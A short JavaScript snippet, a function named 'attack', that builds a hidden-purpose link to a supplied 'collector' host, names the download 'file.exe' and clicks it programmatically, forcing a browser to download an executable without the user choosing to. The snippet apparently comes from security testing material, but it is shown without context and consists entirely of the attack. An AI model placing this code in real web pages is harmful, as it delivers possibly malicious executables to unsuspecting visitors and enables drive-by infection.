const attack = ({ collector }) => {
  const link = document.createElement("a");
  link.href = `${collector}/download`;
  link.download = "file.exe";
  document.body.append(link);
  link.click();
  return "tried";
};
